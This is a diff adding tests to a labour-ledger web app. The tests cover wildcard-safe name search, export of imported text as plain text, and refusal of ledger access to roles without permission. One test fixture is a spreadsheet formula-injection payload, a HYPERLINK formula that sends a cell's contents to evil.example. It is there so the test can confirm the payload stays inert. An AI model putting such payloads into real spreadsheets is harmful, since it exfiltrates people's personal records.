@@ -249,6 +249,9 @@ def test_api_upload_list_export_and_cases(client, clerk, tmp_path):
                     headers=h, content_type="multipart/form-data")
     assert r.status_code == 400 and "priority_group" in r.get_json()["error"]["fields"]
     assert client.get("/api/v1/ledger", headers=h).get_json()["total"] == 2
+    # `%` and `_` in a name search are plain characters, not LIKE wildcards that match everyone.
+    assert [client.get("/api/v1/ledger", query_string={"q": q}, headers=h).get_json()["total"]
+            for q in ("%", "_", "\\")] == [0, 0, 0]
     r = client.post("/api/v1/ledger?create_cases=true", data=good, headers={
         **h, "Content-Type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"})
     assert r.status_code == 201
@@ -323,3 +326,68 @@ def test_cli_import_export_and_cases(app, clerk, tmp_path):
     assert result.exit_code == 0 and "0 temp_job cases opened" in result.output
     result = runner.invoke(args=["ledger", "import", str(good), "--region", "532322", "--user", "clerk_cx"])
     assert result.exit_code == 2
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# Imported text stays text in the export; only the ledger's roles read it.
+
+def test_imported_text_is_exported_as_text_never_as_a_formula(clerk, tmp_path):
+    from openpyxl.cell import WriteOnlyCell
+
+    evil = '=HYPERLINK("http://evil.example/?"&C2,"点击")'
+    upload = Workbook(write_only=True)
+    sheet = upload.create_sheet("回访台账")
+    sheet.append(HEADER)
+    cells = []
+    for value in row(1, employer=evil, name="=1+1", **{"job": "@SUM(A1)"}):
+        cell = WriteOnlyCell(sheet, value=value)
+        if isinstance(value, str):
+            cell.data_type = "s"  # as a county's clerk types it: text, which openpyxl reads back as a str
+        cells.append(cell)
+    sheet.append(cells)
+    upload.save(tmp_path / "county.xlsx")
+    ledger.import_ledger(clerk, str(tmp_path / "county.xlsx"), "532301", NOW)
+    assert db.session.scalar(select(LedgerWorker.employer)) == evil
+
+    ledger_export.export_lists(clerk, None, str(tmp_path / "out.xlsx"))
+    exported = load_workbook(tmp_path / "out.xlsx")
+    try:
+        worker = exported["春节返乡人员清单"][2]
+        by_title = {title: worker[i] for i, title in enumerate(c.value for c in exported["春节返乡人员清单"][1])}
+        for title, value in (("务工企业", evil), ("姓名", "=1+1"), ("就业岗位", "@SUM(A1)")):
+            assert (by_title[title].value, by_title[title].data_type) == (value, "s"), title
+    finally:
+        exported.close()
+
+
+def test_reading_the_ledger_needs_a_ledger_role(client, clerk, tmp_path):
+    _load(tmp_path, clerk)
+    for username, roles in (("insp_cx", ["inspector"]), ("head_cz", ["head"])):
+        reader = Actor.of(make_user(username, roles, "532301"))
+        with pytest.raises(Forbidden):
+            ledger.list_workers(reader)
+        with pytest.raises(Forbidden):
+            ledger_export.export_lists(reader, None, str(tmp_path / f"{username}.xlsx"))
+        assert not (tmp_path / f"{username}.xlsx").exists()
+        h = auth(client, username)
+        for url in ("/api/v1/ledger", "/api/v1/ledger?list=unemployed", "/api/v1/ledger.xlsx"):
+            r = client.get(url, headers=h)
+            assert r.status_code == 403, (username, url)
+            assert r.get_json()["error"]["code"] == "forbidden" and "回访台账" in r.get_json()["error"]["message"]
+    spec = client.get("/api/v1/openapi.json").get_json()["paths"]
+    assert all("403" in spec[path][method]["responses"] for path, method in (
+        ("/ledger", "get"), ("/ledger", "post"), ("/ledger.xlsx", "get"), ("/ledger/cases", "post")))
+    # Clerks, supervisors and administrators read it.
+    supervisor = Actor.of(make_user("sup_cz", ["supervisor"], "532300"))
+    admin = Actor.of(make_user("admin", ["admin"], "530000"))
+    for reader in (clerk, supervisor, admin):
+        assert ledger.list_workers(reader)[1] == 5
+    assert client.get("/api/v1/ledger", headers=auth(client, "sup_cz")).get_json()["total"] == 5
+    assert client.get("/api/v1/ledger.xlsx", headers=auth(client, "admin")).status_code == 200
+
+
+def test_cli_refuses_a_reader_without_a_ledger_role(app, clerk, tmp_path):
+    make_user("insp_cx", ["inspector"], "532301")
+    result = app.test_cli_runner().invoke(args=["ledger", "export", str(tmp_path / "x.xlsx"), "--user", "insp_cx"])
+    assert result.exit_code == 2 and "error: 只有经办人员或科室负责人可以查看回访台账" in result.output
+    assert not (tmp_path / "x.xlsx").exists()
